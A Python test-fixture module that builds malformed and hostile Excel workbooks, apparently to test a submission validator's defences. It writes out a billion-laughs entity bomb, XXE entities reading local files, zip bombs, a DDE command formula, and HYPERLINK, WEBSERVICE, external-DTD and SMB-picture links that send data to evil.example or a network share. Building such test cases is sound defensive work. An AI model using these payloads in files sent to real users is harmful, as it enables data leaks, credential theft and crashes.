"""Builders of broken and malicious workbooks, made from a good sample submission."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path

SHEET1 = "xl/worksheets/sheet1.xml"


def rewrite(src: Path, dst: Path, changes: dict[str, object]) -> Path:
    """Copy a workbook's zip, replacing parts (str, bytes, or a function of the old text)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst.with_suffix(".tmp"), "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            change = changes.get(item.filename)
            if callable(change):
                data = change(data.decode("utf-8"))
            elif change is not None:
                data = change
            zout.writestr(item.filename, data.encode("utf-8") if isinstance(data, str) else data)
    dst.with_suffix(".tmp").replace(dst)
    return dst


def _append_rows(xml: str, rows: str, dimension: str) -> str:
    xml = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', xml)
    return xml.replace("</sheetData>", rows + "</sheetData>")


def junk_rows(src: Path, dst: Path, n: int = 1_000_000) -> Path:
    """A normal submission followed by a million rows of junk below its table."""
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(20, 20 + n))
    return rewrite(src, dst, {SHEET1: lambda x: _append_rows(x, rows, f"A1:J{20 + n - 1}")})


def junk_columns(src: Path, dst: Path, n: int = 16_000) -> Path:
    """A row of 16,000 junk cells under the table."""
    from openpyxl.utils import get_column_letter

    cells = "".join(f'<c r="{get_column_letter(c)}20"><v>{c}</v></c>' for c in range(1, n + 1))
    return rewrite(src, dst, {SHEET1: lambda x: _append_rows(x, f'<row r="20">{cells}</row>', f"A1:{get_column_letter(n)}20")})


def stray_far_corner(src: Path, dst: Path) -> Path:
    """One stray value in XFD1048576 of an otherwise normal sheet."""
    row = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return rewrite(src, dst, {SHEET1: lambda x: _append_rows(x, row, "A1:XFD1048576")})


BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>"""


def billion_laughs(src: Path, dst: Path) -> Path:
    return rewrite(src, dst, {"xl/sharedStrings.xml": BILLION_LAUGHS})


def external_entity(src: Path, dst: Path, secret: Path) -> Path:
    """A shared string that would pull in a local file (XXE)."""
    def inject(xml: str) -> str:
        doctype = f'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        xml = xml.replace("?>", "?>" + doctype, 1)
        return re.sub(r"<t>[^<]*Phước An[^<]*</t>", "<t>&xxe;</t>", xml, count=1)
    return rewrite(src, dst, {"xl/sharedStrings.xml": inject})


def zip_bomb(dst: Path, inflated: int = 300 << 20) -> Path:
    """A small .xlsx whose one part inflates to hundreds of megabytes of zeros."""
    chunk = b"\0" * (1 << 20)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            for _ in range(inflated // len(chunk)):
                part.write(chunk)
        zf.writestr("xl/workbook.xml", "<workbook/>")
    return dst


def truncated(src: Path, dst: Path) -> Path:
    data = src.read_bytes()
    dst.write_bytes(data[: len(data) // 2])
    return dst


def encrypted(src: Path, dst: Path, password: str = "123456") -> Path:
    """The submission protected with a password, as Excel's File → Protect Workbook does."""
    from msoffcrypto.format.ooxml import OOXMLFile

    with open(src, "rb") as fh:
        out = io.BytesIO()
        OOXMLFile(fh).encrypt(password, out)
    dst.write_bytes(out.getvalue())
    return dst


def copy(src: Path, dst: Path) -> Path:
    shutil.copy(src, dst)
    return dst


def declared_entity(src: Path, dst: Path, part: str, secret: Path) -> Path:
    """A part that declares an external entity (XXE) right after its XML declaration.

    The entity is declared, not necessarily used: a DTD is refused wherever it is,
    as the careful reader (defusedxml) refuses it in the parts it parses.
    """
    def inject(xml: str) -> str:
        body = xml[xml.find("?>") + 2:] if xml.startswith("<?xml") else xml
        root = re.search(r"<([\w:]+)[\s/>]", body).group(1)
        doctype = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        return xml.replace("?>", "?>" + doctype, 1) if xml.startswith("<?xml") else doctype + xml
    return rewrite(src, dst, {part: inject})


EXTERNAL_FORMULAS = {  # cell of Biểu mẫu 1 → (formula as the sheet's XML writes it, its cached value)
    "G7": ('HYPERLINK("http://evil.example/?q="&amp;B7,5)', "5"),
    "H7": ("cmd|'/C calc'!A0", "3"),
    "I7": ("[1]Sheet1!A1", "3"),
    "J7": ('VALUE(_xlfn.WEBSERVICE("http://evil.example/"))', "4"),
    "D7": ("Ngoai+2", "5"),  # through a defined name that points into another workbook
}
INTERNAL_FORMULA = ("C7", "D7+E7+F7", "5")  # stays a formula: it reaches nothing outside
EXTERNAL_LINK_TARGET = "file:///C:/bao-cao/nguon-ngoai.xlsx"


def with_formulas(xml: str, formulas: dict[str, tuple[str, str]]) -> str:
    """A sheet's XML whose cells (of the template's row 7) hold these formulas with their cached values."""
    for cell, (formula, value) in formulas.items():
        xml, n = re.subn(rf'<c r="{cell}" s="(\d+)"><v>[^<]*</v></c>',
                         rf'<c r="{cell}" s="\1"><f>{formula}</f><v>{value}</v></c>', xml)
        assert n == 1, cell
    return xml


def external_formulas(src: Path, dst: Path) -> Path:
    """Phước An's report whose Biểu mẫu 1 row 7 holds formulas that reach outside the workbook
    (with their cached values, as Excel saves them), one that does not, and the external link
    that "[1]" stands for, with a defined name pointing there."""
    def sheet(xml: str) -> str:
        return with_formulas(xml, {**EXTERNAL_FORMULAS, INTERNAL_FORMULA[0]: INTERNAL_FORMULA[1:]})

    def workbook(xml: str) -> str:
        name = '<definedName name="Ngoai">[1]Sheet1!$A$1</definedName>'
        if "<definedNames>" in xml:  # the template's print titles: one list of names
            xml = xml.replace("<definedNames>", "<definedNames>" + name, 1)
            name = ""
        return xml.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId99"/>'
                           "</externalReferences>" + (f"<definedNames>{name}</definedNames>" if name else ""))

    def rels(xml: str) -> str:
        return xml.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                           'officeDocument/2006/relationships/externalLink" '
                           'Target="externalLinks/externalLink1.xml"/></Relationships>')

    def types(xml: str) -> str:
        return xml.replace("</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                           '"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')

    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"><sheetNames>'
            '<sheetName val="Sheet1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1">'
            '<v>3</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>')
    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                 'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                 f'Target="{EXTERNAL_LINK_TARGET}" TargetMode="External"/></Relationships>')
    rewrite(src, dst, {SHEET1: sheet, "xl/workbook.xml": workbook, "xl/_rels/workbook.xml.rels": rels,
                       "[Content_Types].xml": types})
    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/externalLinks/externalLink1.xml", link)
        zf.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels)
    return dst


def amplified_shared_string(dst: Path, chars: int = 1_000_000, rows: int = 200, cols: int = 60) -> Path:
    """A ~170 KB workbook whose 12,000 cells all show one ~1 MB shared string (old-encoding-like
    Latin-1 text, which the legacy-encoding test reads character by character). The words come in
    random order: a string repeating one phrase compresses ~1000×, and is refused as a zip bomb."""
    import random

    from openpyxl.utils import get_column_letter

    rng = random.Random(0)
    words = ["Phöôùc", "Sôn", "ñaõ", "Hieäp", "Hoøa", "Loäc", "Nghóa", "Quang", "Thaønh", "Thuaän", "xaõ"]
    text = " ".join(rng.choice(words) for _ in range(chars // 4))[:chars]
    cells = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{get_column_letter(c)}{r}" t="s"><v>0</v></c>' for c in range(1, cols + 1)) + "</row>"
        for r in range(1, rows + 1)
    )
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{main}" xmlns:r="{rel}">'
            '<sheets><sheet name="Biểu mẫu 1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{main}">'
            f'<dimension ref="A1:{get_column_letter(cols)}{rows}"/><sheetData>{cells}</sheetData></worksheet>'
        ),
        "xl/sharedStrings.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{main}" count="{rows * cols}" uniqueCount="1">'
            f"<si><t>{text}</t></si></sst>"
        ),
    }
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data.encode("utf-8"))
    return dst


# Second round (issue 21): hostile content the first screens did not see ---------------------

UTF16_FORMULAS = {  # cell of Biểu mẫu 1 → (formula as the sheet's XML writes it, its cached value)
    "G7": ('HYPERLINK("http://evil.example/?q="&amp;B7,5)', "5"),
    "J7": ('_xlfn.WEBSERVICE("http://evil.example/?"&amp;C7)', "4"),
}


def as_utf16(xml: str) -> bytes:
    """A part as some tools save it: UTF-16 with a byte-order mark, its XML declaration saying so."""
    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    return ("\ufeff" + xml).encode("utf-16-le")


def utf16_external_formulas(src: Path, dst: Path) -> Path:
    """Phước An's report whose Biểu mẫu 1 is stored as UTF-16, with formulas that reach outside."""
    return rewrite(src, dst, {SHEET1: lambda x: as_utf16(with_formulas(x, UTF16_FORMULAS))})


EXTERNAL_CF = 'LEN(_xlfn.WEBSERVICE("http://evil.example/?"&amp;C7))&gt;0'
INTERNAL_CF = "C7&lt;0"
EXTERNAL_LIST = "[1]Sheet1!$A$1:$A$9"


def external_rules(src: Path, dst: Path) -> Path:
    """Biểu mẫu 1 with a conditional format that calls WEBSERVICE for each figure, one that stays inside
    the workbook, and a drop-down list (data validation) taken from another workbook."""
    def sheet(xml: str) -> str:
        rules = ('<conditionalFormatting sqref="C7:J7"><cfRule type="expression" priority="1">'
                 f"<formula>{EXTERNAL_CF}</formula></cfRule></conditionalFormatting>"
                 '<conditionalFormatting sqref="C7:F7"><cfRule type="expression" priority="2">'
                 f"<formula>{INTERNAL_CF}</formula></cfRule></conditionalFormatting>")
        xml = xml.replace("<dataValidations", rules + "<dataValidations", 1)
        listed = (f'<dataValidation type="list" allowBlank="1" sqref="B8"><formula1>{EXTERNAL_LIST}</formula1>'
                  "</dataValidation>")
        xml = xml.replace('<dataValidations count="1">', '<dataValidations count="2">', 1)
        return xml.replace("</dataValidations>", listed + "</dataValidations>", 1)
    return rewrite(src, dst, {SHEET1: sheet})


SMB_PICTURE = "file://///may-chu-la/chia-se/logo.png"
SMB_LINK = "\\\\may-chu-la\\chia-se\\bao-cao.xlsx"
WEB_PICTURE = "http://evil.example/pixel.png"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def _picture(rid: str, n: int) -> str:
    return (f'<xdr:twoCellAnchor><xdr:from><xdr:col>{n}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row>'
            f'<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>{n + 1}</xdr:col><xdr:colOff>0</xdr:colOff>'
            '<xdr:row>12</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:pic><xdr:nvPicPr>'
            f'<xdr:cNvPr id="{n + 2}" name="Ảnh {n}"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
            f'<a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr>'
            '<a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="571500"/></a:xfrm><a:prstGeom prst="rect">'
            "<a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/></xdr:twoCellAnchor>")


def external_links(src: Path, dst: Path) -> Path:
    """Biểu mẫu 1 with two linked (not embedded) pictures, one on a network share (file://///…, which
    Windows opens over SMB, sending the user's credentials) and one on a web server, and a hyperlink
    to a network share in cell B8."""
    def sheet(xml: str) -> str:
        xml = xml.replace("<pageMargins", '<hyperlinks><hyperlink ref="B8" r:id="rId92"/></hyperlinks><pageMargins', 1)
        return xml.replace("</worksheet>", '<drawing r:id="rId91"/></worksheet>', 1)

    def types(xml: str) -> str:
        return xml.replace("</Types>", '<Override PartName="/xl/drawings/drawing1.xml" ContentType='
                           '"application/vnd.openxmlformats-officedocument.drawing+xml"/></Types>')

    sheet_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}">'
                  f'<Relationship Id="rId91" Type="{REL}/drawing" Target="../drawings/drawing1.xml"/>'
                  f'<Relationship Id="rId92" Type="{REL}/hyperlink" Target="{SMB_LINK}" TargetMode="External"/>'
                  "</Relationships>")
    drawing = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xdr:wsDr xmlns:xdr="http://schemas.'
               'openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/'
               f'drawingml/2006/main" xmlns:r="{REL}">{_picture("rId1", 1)}{_picture("rId2", 4)}</xdr:wsDr>')
    drawing_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}">'
                    f'<Relationship Id="rId1" Type="{REL}/image" Target="{SMB_PICTURE}" TargetMode="External"/>'
                    f'<Relationship Id="rId2" Type="{REL}/image" Target="{WEB_PICTURE}" TargetMode="External"/>'
                    "</Relationships>")
    rewrite(src, dst, {SHEET1: sheet, "[Content_Types].xml": types})
    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/_rels/sheet1.xml.rels", sheet_rels)
        zf.writestr("xl/drawings/drawing1.xml", drawing)
        zf.writestr("xl/drawings/_rels/drawing1.xml.rels", drawing_rels)
    return dst


EXTERNAL_DTD = "http://evil.example/bao-cao.dtd"


def external_dtd(src: Path, dst: Path, part: str) -> Path:
    """A part that names an external DTD (no entity: nothing for the entity screens to refuse); a reader
    that fetches DTDs calls the address when the file is opened."""
    def inject(xml: str) -> str:
        body = xml[xml.find("?>") + 2:]
        root = re.search(r"<([\w:]+)[\s/>]", body).group(1)
        return xml.replace("?>", f'?><!DOCTYPE {root} SYSTEM "{EXTERNAL_DTD}">', 1)
    return rewrite(src, dst, {part: inject})


def inflating(dst: Path, parts: int, part_bytes: int, ratio: float) -> Path:
    """A .xlsx whose ``parts`` sheets each inflate to ``part_bytes`` of zeros, compressed about ``ratio``
    times: each megabyte starts with random bytes (which do not compress) and the rest is zeros (~1000×)."""
    import os

    size = 1 << 20
    noise = max(0, int(size / ratio - size / 1030))
    chunk = os.urandom(noise) + bytes(size - noise)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("xl/workbook.xml", "<workbook/>")
        for n in range(1, parts + 1):
            with zf.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as part:
                left = part_bytes
                while left > 0:
                    part.write(chunk[:left])
                    left -= len(chunk)
    return dst


def real_sized(dst: Path, megabytes: float = 9, seed: int = 21) -> Path:
    """A real-sized workbook of about ``megabytes`` on disk: one sheet of many rows, each a Vietnamese
    name and eleven figures (random, as real figures are), written as Excel writes its XML."""
    import random

    from openpyxl.utils import get_column_letter

    rng = random.Random(seed)
    words = "Xã Phước An Sơn Hiệp Hòa Hưng Lộc Nghĩa Quang Thành Thuận lao động doanh nghiệp".split()
    rows = int(megabytes * 12_000)  # ~85 bytes a row once compressed
    letters = [get_column_letter(c) for c in range(1, 13)]
    body = "".join(
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{" ".join(rng.choices(words, k=4))} {r}</t></is></c>'
        + "".join(f'<c r="{col}{r}" s="1"><v>{rng.randint(0, 99_999)}</v></c>' for col in letters[1:])
        + "</row>"
        for r in range(1, rows + 1))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    xml = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    parts = {
        "[Content_Types].xml": (
            f'{xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
            "</Types>"),
        "_rels/.rels": (
            f'{xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'{xml}<workbook xmlns="{main}" xmlns:r="{rel}">'
            '<sheets><sheet name="Số liệu chi tiết" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'{xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel}/styles" Target="styles.xml"/></Relationships>'),
        "xl/styles.xml": (
            f'{xml}<styleSheet xmlns="{main}"><numFmts count="0"/><fonts count="1"><font><sz val="11"/>'
            '<name val="Calibri"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill>'
            '<fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border/></borders>'
            '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
            '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
            '<xf numFmtId="3" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
            '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'),
        "xl/worksheets/sheet1.xml": (
            f'{xml}<worksheet xmlns="{main}"><dimension ref="A1:L{rows}"/><sheetData>{body}</sheetData></worksheet>'),
    }
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data.encode("utf-8"))
    return dst
